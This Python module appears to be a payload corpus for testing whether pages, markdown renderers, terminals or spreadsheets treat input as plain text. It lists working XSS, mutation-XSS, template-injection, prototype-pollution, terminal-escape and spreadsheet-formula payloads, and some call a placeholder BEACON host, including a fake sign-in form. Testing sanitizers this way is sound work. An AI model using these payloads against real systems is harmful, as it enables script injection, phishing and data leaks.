"""Texts that would run, load or lead away if any page took them for more than text.

`pwned()` is what they call, `BEACON` the address that they ask for; `filled` puts the real one in its place.
"""

_MARKUP = (
    r"""
<script>pwned()</script>
<ScRiPt>pwned()</sCrIpT>
<script src=BEACON/s.js></script>
</script><script>pwned()</script>
</title><script>pwned()</script>
</textarea><script>pwned()</script>
</style><script>pwned()</script>
--><script>pwned()</script>
]]><script>pwned()</script>
"><script>pwned()</script>
'><img src=x onerror=pwned()>
" onmouseover="pwned()" autofocus onfocus="pwned()
<img src=x onerror=pwned()>
<img src=x onerror="pwned()"//
<IMG """
    '"""'
    r"""><script>pwned()</script>">
<img src=BEACON/img.png>
<img srcset="BEACON/set.png 1x">
<picture><source srcset=BEACON/pic.png><img></picture>
<image src=x onerror=pwned()>
<input type=image src=BEACON/input.png>
<input autofocus onfocus=pwned()>
<select autofocus onfocus=pwned()>
<textarea autofocus onfocus=pwned()>
<video src=BEACON/v.mp4 autoplay></video>
<video poster=BEACON/poster.png></video>
<video><source onerror=pwned()></video>
<audio src=x onerror=pwned()>
<body onload=pwned()>
<details open ontoggle=pwned()>x</details>
<marquee onstart=pwned()>x</marquee>
<div onpointerover=pwned() style="position:fixed;inset:0">x</div>
<p style="animation:x" onanimationstart=pwned()>x</p>
<iframe src=BEACON/frame></iframe>
<iframe srcdoc="<script>top.pwned()</script>"></iframe>
<iframe src="javascript:top.pwned()"></iframe>
<object data=BEACON/object></object>
<object data="data:text/html,<script>pwned()</script>"></object>
<embed src=BEACON/embed>
<base href=BEACON/>
<base target=_blank>
<meta http-equiv=refresh content="0;url=BEACON/meta">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<link rel=stylesheet href=BEACON/l.css>
<link rel=preload as=image href=BEACON/preload.png>
<link rel=prefetch href=BEACON/prefetch>
<link rel=dns-prefetch href=BEACON/>
<link rel=modulepreload href=BEACON/m.js>
<form action=BEACON/form><button autofocus>Sign in again</button></form>
<form id=f action="javascript:pwned()"><button>go</button></form>
<button form=f formaction="javascript:pwned()">go</button>
<isindex type=submit formaction=javascript:pwned()>
<a href="javascript:pwned()">click</a>
<a href="jav&#x09;ascript:pwned()">click</a>
<a href=" javascript:pwned()">click</a>
<a href="data:text/html,<script>pwned()</script>">click</a>
<a ping=BEACON/ping href=#>click</a>
<style>@import url(BEACON/i.css);</style>
<style>*{background:url(BEACON/bg.png)}</style>
<div style="background:url(BEACON/inline.png)">x</div>
<div style="background:url(javascript:pwned())">x</div>
<table background=BEACON/table.png><tr><td>x</table>
<svg onload=pwned()>
<svg/onload=pwned()>
<svg><script>pwned()</script></svg>
<svg><script href=BEACON/svg.js /></svg>
<svg><image href=BEACON/svg.png /></svg>
<svg><use href="data:image/svg+xml,<svg id='x' onload='pwned()'/>#x"/></svg>
<svg><a xlink:href="javascript:pwned()"><text y=20>click</text></a></svg>
<svg><animate onbegin=pwned() attributeName=x dur=1s>
<svg><set attributeName=href to="javascript:pwned()"/></svg>
<svg><foreignObject><iframe src="javascript:top.pwned()"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=pwned()></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=pwned()>
<math><mi xlink:href="javascript:pwned()">click</mi></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=pwned()></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned()>
<noscript><p title="</noscript><img src=x onerror=pwned()>">
<template><script>pwned()</script></template>
<template shadowrootmode=open><img src=x onerror=pwned()></template>
<xmp><p title="</xmp><img src=x onerror=pwned()>">
<listing>&lt;img src=x onerror=pwned()&gt;</listing>
<!--><img src=x onerror=pwned()>-->
<![CDATA[<img src=x onerror=pwned()>]]>
<?xml-stylesheet href="BEACON/x.css"?>
<x contenteditable onbeforeinput=pwned() autofocus>x
<dialog open onclose=pwned()><form method=dialog><button>x</button></form></dialog>
<img name=body><img name=head><img id=trustedTypes><form id=location><input name=href></form>
<a id=MonacoEnvironment><a id=MonacoEnvironment name=getWorker href=data:,pwned()>
<form name=__proto__><input name=polluted></form>
"""
)

_MARKDOWN = r"""
[click](javascript:pwned())
[click](JaVaScRiPt:pwned%28%29)
[click](java&#115;cript:pwned())
[click](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)
[click](vbscript:pwned())
[click](file:///etc/passwd)
[click](irc://127.0.0.1/pwned)
[click](<javascript:pwned()>)
[click][ref-pwned]
<javascript:pwned()>
<data:text/html,pwned()>
![image](BEACON/md.png)
![image](javascript:pwned())
![image](x "title" onerror=pwned())
[![image](BEACON/nested.png)](javascript:pwned())
| a<img src=x onerror=pwned()> | b |
`<img src=x onerror=pwned()>`
`</code><img src=x onerror=pwned()>`
**<img src=x onerror=pwned()>**
footnote[^<img src=x onerror=pwned()>]
<a href="https://example.invalid" onclick=pwned()>click</a>
<details><summary><img src=x onerror=pwned()></summary></details>
"""

_OTHER = [
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()}",
    "#{pwned()}",
    "<%= pwned() %>",
    "{% include 'pwned' %}",
    "[[${pwned()}]]",
    "';pwned();//",
    '");pwned();("',
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "&lt;img src=x onerror=pwned()&gt;",
    "%3Cimg%20src=x%20onerror=pwned()%3E",
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
    "<scr\u200bipt>pwned()</scr\u200bipt>",
    "javascript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "__proto__",
    '{"__proto__":{"polluted":true}}',
    "constructor.prototype.polluted",
    "}*{background:url(BEACON/css.png)}",
    "red;background:url(BEACON/value.png)",
    "</style><style>body{display:none}",
    "\u202egnp.exe \u202dpwned",
    "\u2066\u2067pwned\u2069\u200f\u061c",
    "zero\u200b\u200c\u200d\ufeff\u2060width",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b" * 12,
    "\U000e0001\U000e0020tag",
    "long" * 60,
    "\x1b]0;pwned title\x07",
    "\x1b]2;pwned title\x1b\\",
    "\x1b]52;c;cHduZWQ=\x07",
    "\x1b]8;;javascript:pwned()\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]8;;BEACON/osc8\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]1337;File=inline=1:PHN2Zz4=\x07",
    "\x1bP$qm\x1b\\\x1b[c\x1b[6n\x1b[21t",
    "\x1b[2J\x1b[H\x1b[31mpwned\x1b[0m",
    "\x9d0;pwned title\x9c",
    "bell\x07 back\x08 vertical\x0b form\x0c delete\x7f",
    '=HYPERLINK("BEACON/sheet","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "../../../../etc/passwd",
]

TEMPLATES = [line for line in (_MARKUP + _MARKDOWN).splitlines() if line] + _OTHER


def filled(beacon: str) -> list[str]:
    return [text.replace("BEACON", beacon) for text in TEMPLATES]


def packed(texts: list[str], limit: int) -> list[str]:
    """All of them in as few texts as the limit of characters allows; what is longer by itself is left out."""
    packs: list[str] = []
    for text in texts:
        if len(text) > limit:
            continue
        if packs and len(packs[-1]) + len(text) + 1 <= limit:
            packs[-1] += " " + text
        else:
            packs.append(text)
    return packs
